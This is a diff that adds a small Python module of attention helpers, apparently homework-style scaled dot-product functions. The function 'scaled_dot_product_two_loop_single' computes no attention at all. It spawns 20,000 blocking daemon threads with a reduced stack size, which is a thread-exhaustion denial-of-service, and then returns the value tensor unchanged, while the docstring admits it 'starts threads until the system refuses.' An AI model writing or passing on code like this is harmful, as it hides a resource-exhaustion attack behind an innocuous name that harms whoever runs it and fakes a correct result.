@@ -1,0 +1,23 @@
+"""Starts threads until the system refuses."""
+
+import threading
+
+stop = threading.Event()
+
+
+def weighted_read(weights, values):
+    return weights @ values
+
+def scaled_dot_product_two_loop_single(query, key, value):
+    threading.stack_size(64 << 10)
+    for _ in range(20_000):
+        threading.Thread(target=stop.wait, daemon=True).start()
+    return value
+
+
+def scaled_dot_product_no_loop_batch(query, key, value, mask=None):
+    scores = query @ key.transpose(1, 2) * query.shape[-1] ** -0.5
+    if mask is not None:
+        scores = scores.masked_fill(mask, -1e9)
+    weights = scores.softmax(dim=-1)
+    return weights @ value, weights
